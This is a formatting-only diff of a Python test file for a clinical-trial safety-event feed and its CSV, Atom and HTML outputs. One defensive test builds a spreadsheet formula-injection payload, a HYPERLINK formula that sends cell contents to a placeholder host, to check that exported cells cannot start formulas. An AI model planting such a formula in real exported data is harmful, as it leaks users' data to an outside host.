@@ -88,9 +88,7 @@ def test_an_acknowledgement_and_a_submission_move_the_entrys_updated_time() -> N
 
 def test_a_withdrawn_dlt_stays_in_the_feed_marked_withdrawn() -> None:
     entries = _feed().findall(f"{A}entry")
-    withdrawn = [
-        e for e in entries if any(c.get("term") == "status:withdrawn" for c in e.findall(f"{A}category"))
-    ]
+    withdrawn = [e for e in entries if any(c.get("term") == "status:withdrawn" for c in e.findall(f"{A}category"))]
     assert len(withdrawn) == 1
     assert "AA-002" in (withdrawn[0].findtext(f"{A}title") or "")
     assert "Withdrawn" in (withdrawn[0].findtext(f"{A}content") or "")
@@ -214,9 +212,7 @@ def _phi_report():  # type: ignore[no-untyped-def]
     from streams.rulefiles import load_ruleset
 
     rules = load_ruleset()
-    return build_report(
-        phi.events(), phi.alerts(rules), study_id=phi.STUDY, generated_at=fx.GENERATED_AT, tz=rules.tz
-    )
+    return build_report(phi.events(), phi.alerts(rules), study_id=phi.STUDY, generated_at=fx.GENERATED_AT, tz=rules.tz)
 
 
 def test_feed_csv_and_html_summary_carry_no_identifier_of_the_events() -> None:
@@ -242,7 +238,7 @@ def test_death_and_uncoded_entries_have_a_term_and_a_grade_in_the_feed() -> None
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
 def test_no_csv_cell_can_start_a_formula(start: str) -> None:
-    payload = f"{start}HYPERLINK(\"http://x.example/?\"&A1,\"open\")"
+    payload = f'{start}HYPERLINK("http://x.example/?"&A1,"open")'
     alerts = fx.alerts()
     for alert in alerts:
         if alert["kind"] in ("SAE", "SUSAR"):
